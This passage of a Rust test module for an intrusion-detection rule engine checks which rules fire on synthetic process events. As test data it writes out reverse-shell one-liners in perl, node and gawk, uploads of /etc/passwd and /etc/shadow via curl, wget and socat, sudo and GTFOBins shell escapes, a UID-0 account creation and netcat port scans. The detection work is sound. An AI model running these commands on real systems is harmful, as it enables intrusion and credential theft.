        only(ring.clone_ev(), "io-uring-file-or-network-op");
        ring.operation = Some("read");
        none(ring.clone_ev());
        ring.operation = Some("connect");
        ring.exe = "/usr/bin/fio";
        none(ring);
    }

    #[test]
    fn code_run_from_a_substitution() {
        let mut shell = exec("/usr/bin/bash", &["bash", "-c", "id"], &["/usr/bin/bash"]);
        none(shell.clone_ev());
        shell.substituted_from = Some("/usr/bin/curl");
        only(shell.clone_ev(), "shell-runs-substituted-download");
        shell.substituted_from = Some("/usr/bin/base64");
        only(shell.clone_ev(), "shell-runs-substituted-decoded-payload");
        // A shell without command text, or a checksum read into a variable: not code.
        shell.substituted_from = Some("/usr/bin/sha256sum");
        none(shell.clone_ev());
        let mut script = exec("/usr/bin/bash", &["bash", "build.sh"], &["/usr/bin/bash"]);
        script.cwd = "/home/dev";
        script.substituted_from = Some("/usr/bin/curl");
        none(script);
    }

    #[test]
    fn sniffers_by_their_sockets() {
        let mut packet = base(EventType::Socket, "/usr/bin/tcpdump", &["/usr/bin/bash"]);
        packet.operation = Some("packet");
        only(packet.clone_ev(), "packet-socket-opened");
        packet.exe = "/usr/bin/python3.11";
        only(packet.clone_ev(), "packet-socket-opened");
        packet.exe = "/usr/sbin/dhclient";
        none(packet);

        let mut raw = base(EventType::Socket, "/usr/bin/python3.11", &["/usr/bin/bash"]);
        raw.operation = Some("raw");
        only(raw.clone_ev(), "raw-ip-socket-opened");
        raw.exe = "/usr/bin/ping";
        none(raw.clone_ev());
        raw.exe = "/usr/bin/traceroute.db";
        none(raw);
    }

    #[test]
    fn evasions_closed() {
        // A padded command line: the payload is beyond what is captured.
        let mut padded = exec(
            "/usr/bin/bash",
            &["bash", "-c", "          "],
            &["/usr/bin/bash"],
        );
        padded.argv_truncated = true;
        only(padded, "command-line-beyond-capture");
        let mut link = exec(
            "/usr/bin/dash",
            &["sh", "-c", "gcc -o x a.o b.o"],
            &["/usr/bin/make", "/usr/bin/bash"],
        );
        link.argv_truncated = true;
        none(link);
        // Built here by the toolchain, or dropped.
        let mut built = exec("/tmp/w/hello", &["./hello"], &["/usr/bin/bash"]);
        built.exe_built_by = Some("/usr/bin/x86_64-linux-gnu-gcc-12");
        none(built);
        let mut dropped = exec("/tmp/w/hello", &["./hello"], &["/usr/bin/bash"]);
        dropped.exe_built_by = Some("/usr/bin/curl");
        only(dropped, "exec-from-tmp");
        // "In a container" from the PID namespace too (no container cgroup).
        only(
            in_container(exec(
                "/usr/bin/dpkg",
                &["dpkg", "-i", "x.deb"],
                &["/usr/bin/bash"],
            )),
            "package-manager-in-container",
        );
    }

    // ---- What the attack suite (tests/scenarios/attack_suite.rs) found missing -----------

    #[track_caller]
    fn fires(e: &Ev, rule: &str) {
        let got = fired(e);
        assert!(
            got.iter().any(|r| r == rule),
            "expected {rule}, got {got:?}"
        );
    }

    fn with_cwd(mut e: Ev, cwd: &'static str) -> Ev {
        e.cwd = cwd;
        e
    }

    #[test]
    fn shells_wired_without_a_socket_on_their_stdio() {
        // bash's /dev/tcp opened by the shell itself, whatever it then runs.
        only(
            with_stdio(
                exec("/usr/bin/cat", &["cat"], &["/usr/bin/bash"]),
                [FdKind::InetSocket, FdKind::Pipe, FdKind::Tty],
            ),
            "shell-hands-socket-to-program",
        );
        // A service's child on its connection (inetd, socket activation) is not below a shell.
        none(with_stdio(
            exec("/usr/sbin/in.tftpd", &["in.tftpd"], &["/usr/sbin/inetd"]),
            [FdKind::InetSocket, FdKind::InetSocket, FdKind::Null],
        ));
        // `cat f | sh -i 2>&1 | nc HOST PORT > f`: nc reads the shell's output.
        let nc = fed_by(
            with_stdio(
                exec(
                    "/usr/bin/nc.traditional",
                    &["nc", "10.0.0.5", "4444"],
                    &["/usr/bin/bash"],
                ),
                [FdKind::Pipe, FdKind::Pipe, FdKind::Tty],
            ),
            "/usr/bin/dash",
            &["/bin/sh", "-i"],
        );
        only(nc, "shell-output-piped-to-network-tool");
        only(
            exec(
                "/usr/bin/gawk",
                &[
                    "gawk",
                    "BEGIN {s = \"/inet/tcp/0/10.0.0.5/4444\"; while ((s |& getline c) > 0) print c}",
                ],
                &["/usr/bin/bash"],
            ),
            "awk-network-special-file",
        );
        fires(
            &exec(
                "/usr/bin/perl",
                &[
                    "perl",
                    "-MIO",
                    "-e",
                    "$c=new IO::Socket::INET(PeerAddr,\"10.0.0.5:4444\");system$_ while<>;",
                ],
                &["/usr/bin/bash"],
            ),
            "reverse-shell-scripting-one-liner",
        );
        fires(
            &exec(
                "/usr/bin/node",
                &[
                    "node",
                    "-e",
                    "const n=require(\"net\"),c=require(\"child_process\");n.connect(4444,\"h\")",
                ],
                &["/usr/bin/bash"],
            ),
            "reverse-shell-scripting-one-liner",
        );
        // Process substitution and a reversed payload.
        only(
            exec("/usr/bin/bash", &["bash", "/dev/fd/63"], &["/usr/bin/bash"]),
            "script-from-descriptor",
        );
        fires(
            &fed_by(
                with_stdio(exec("/usr/bin/dash", &["sh"], &["/usr/bin/bash"]), PIPE_IN),
                "/usr/bin/rev",
                &["rev"],
            ),
            "shell-reads-decoded-payload",
        );
        // A build running its own generator script from /tmp.
        none(with_cwd(
            exec(
                "/usr/bin/dash",
                &["/bin/sh", "./gen.sh"],
                &["/usr/bin/make", "/usr/bin/bash"],
            ),
            "/tmp/proj",
        ));
    }

    #[test]
    fn gtfobins_escapes_and_privilege_tricks() {
        // find -exec /bin/sh -p \; : bare, privileged, below find.
        let find_sh = exec(
            "/usr/bin/dash",
            &["/bin/sh", "-p"],
            &["/usr/bin/find", "/usr/bin/bash"],
        );
        fires(&find_sh, "shell-escape-from-program");
        fires(&find_sh, "privileged-mode-shell");
        // zip -TT 'sh #' runs `sh -c 'sh # /tmp/zi…'`, whose inner sh is bare.
        only(
            exec(
                "/usr/bin/dash",
                &["sh"],
                &["/usr/bin/dash", "/usr/bin/zip", "/usr/bin/bash"],
            ),
            "shell-escape-from-program",
        );
        only(
            exec("/usr/bin/bash", &["bash", "-p"], &["/usr/bin/bash"]),
            "privileged-mode-shell",
        );
        only(
            exec(
                "/usr/bin/perl",
                &["perl", "-e", "exec \"/bin/sh\";"],
                &["/usr/bin/bash"],
            ),
            "interpreter-inline-shell-escape",
        );
        only(
            exec(
                "/usr/bin/gawk",
                &["awk", "BEGIN {system(\"/bin/sh\")}"],
                &["/usr/bin/bash"],
            ),
            "interpreter-inline-shell-escape",
        );
        only(
            exec(
                "/usr/bin/sudo",
                &["sudo", "-u#-1", "/bin/bash"],
                &["/usr/bin/bash"],
            ),
            "sudo-user-id-bypass",
        );
        only(
            exec(
                "/usr/sbin/useradd",
                &[
                    "useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "svc",
                ],
                &["/usr/bin/bash"],
            ),
            "uid-zero-account-created",
        );
        only(
            exec(
                "/usr/bin/find",
                &["find", "/", "-perm", "-4000", "-type", "f"],
                &["/usr/bin/bash"],
            ),
            "privileged-file-discovery",
        );
        only(
            exec(
                "/usr/sbin/getcap",
                &["getcap", "-r", "/"],
                &["/usr/bin/bash"],
            ),
            "privileged-file-discovery",
        );
        only(
            exec("/root/.dbus-session", &[], &["/usr/bin/bash"]),
            "exec-hidden-file-in-home",
        );
        // What admins and builds do stays quiet.
        none(exec("/usr/bin/bash", &["bash"], &["/usr/bin/tmux"]));
        none(exec(
            "/usr/bin/dash",
            &["sh", "-c", "./build.sh"],
            &["/usr/bin/make", "/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/dash",
            &["/bin/sh", "-c", "exec /bin/true"],
            &["/usr/bin/gdb", "/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/python3.11",
            &["python3", "-c", "import os; os.system(\"ls\")"],
            &["/usr/bin/bash"],
        ));
        // A shell given a command from inline code is not a bare shell.
        none(exec(
            "/usr/bin/node",
            &[
                "node",
                "-e",
                "require(\"child_process\").execFileSync(\"/bin/sh\", [\"-c\", \"true\"])",
            ],
            &["/usr/bin/bash"],
        ));
        only(
            exec(
                "/usr/bin/python3.11",
                &[
                    "python3",
                    "-c",
                    "import os; os.execl(\"/bin/sh\", \"sh\", \"-p\")",
                ],
                &["/usr/bin/bash"],
            ),
            "interpreter-inline-shell-escape",
        );
        none(exec(
            "/usr/sbin/useradd",
            &["useradd", "-m", "-u", "1001", "bob"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/usr/bin/find",
            &["find", "/var/log", "-perm", "-o+w"],
            &["/usr/bin/bash"],
        ));
        none(exec(
            "/root/.cargo/bin/cargo",
            &["cargo", "build"],
            &["/usr/bin/bash"],
        ));
        none(change("/usr/sbin/useradd", "utimes", "/etc/passwd-"));
    }

    #[test]
    fn files_sent_out_and_port_sweeps() {
        let nc = |stdio, peer: Option<&'static str>| {
            let e = with_stdio(
                exec(
                    "/usr/bin/nc.traditional",
                    &["nc", "-q", "1", "10.0.0.5", "4444"],
                    &["/usr/bin/bash"],
                ),
                stdio,
            );
            match peer {
                Some(p) => fed_by(e, p, &["cat", "/etc/passwd"]),
                None => e,
            }
        };
        only(
            nc([FdKind::File, FdKind::Tty, FdKind::Tty], None),
            "file-redirected-to-netcat",
        );
        only(nc(PIPE_IN, Some("/usr/bin/cat")), "file-piped-to-netcat");
        none(nc(TTY, None));
        only(
            exec(
                "/usr/bin/socat",
                &["socat", "-u", "FILE:/etc/passwd", "TCP:10.0.0.5:4444"],
                &["/usr/bin/bash"],
            ),
            "file-sent-by-socat",
        );
        only(
            exec(
                "/usr/bin/curl",
                &["curl", "-s", "-F", "f=@/etc/passwd", "http://10.0.0.5/u"],
                &["/usr/bin/bash"],
            ),
            "sensitive-file-uploaded-by-http-client",
        );
        only(
            exec(
                "/usr/bin/wget",
                &["wget", "--post-file=/etc/shadow", "http://10.0.0.5/u"],
                &["/usr/bin/bash"],
            ),
            "sensitive-file-uploaded-by-http-client",
        );
        none(exec(
            "/usr/bin/curl",
            &["curl", "-d", "@payload.json", "https://api.example/v1"],
            &["/usr/bin/bash"],
        ));
        only(
            exec(
                "/usr/bin/nc.traditional",
                &["nc", "-zvn", "-w", "1", "10.0.0.5", "20-25"],
                &["/usr/bin/bash"],
            ),
            "port-scan-by-netcat",
        );
        none(exec(
            "/usr/bin/nc.traditional",
            &["nc", "-z", "-w", "1", "10.0.0.5", "443"],
            &["/usr/bin/bash"],
        ));
    }

    #[test]
    fn admin_routines_the_attack_suite_runs_stay_quiet() {
        // A backup of /etc as a whole reads the hash files; naming them is still a read.
        let mut backup = open("/usr/bin/tar", "/etc/shadow", Access::READ);
        backup.argv = ["tar", "czf", "/var/backups/etc.tgz", "/etc"]
            .map(String::from)
            .to_vec();
        none(backup);
        let mut grab = open("/usr/bin/tar", "/etc/shadow", Access::READ);
        grab.argv = ["tar", "czf", "/tmp/s.tgz", "/etc/shadow"]
            .map(String::from)
            .to_vec();
        only(grab, "read-shadow-file");
        // gdb reading its own inferior's memory.
        none(open("/usr/bin/gdb", "/proc/4242/mem", Access::READ));
        // An editor at a terminal; the same editor driven by a script.
        let vim = |stdio| {
            with_stdio(
                exec(
                    "/usr/bin/vim.basic",
                    &["vim", "/home/alice/.bashrc"],
                    &["/usr/bin/bash"],
                ),
                stdio,
            )
        };
        none(vim(TTY));
        only(
            vim([FdKind::Null, FdKind::Null, FdKind::Null]),
            "startup-file-edited-without-terminal",
        );
        only(
            with_stdio(
                exec("/usr/bin/ed", &["ed", "-s", ".profile"], &["/usr/bin/bash"]),
                PIPE_IN,
            ),
            "startup-file-edited-without-terminal",
        );
        // History files: another program's truncated, or the shell's own by a script.
        let mut typed = open(
            "/usr/bin/bash",
            "/home/alice/.python_history",
            W | Access::TRUNCATE,
        );
        typed.argv = vec!["-bash".into()];
        only(typed, "shell-history-truncated-by-command");
        let mut script = open(
            "/usr/bin/bash",
            "/home/alice/.bash_history",
            W | Access::TRUNCATE,
        );
        script.argv = vec!["bash".into(), "/opt/cleanup.sh".into()];
        only(script, "shell-history-truncated-by-command");
        let mut repl = open(
            "/usr/bin/python3.11",
            "/home/alice/.python_history",
            W | Access::TRUNCATE,
        );
        repl.argv = vec!["python3".into()];
        none(repl);
    }
}
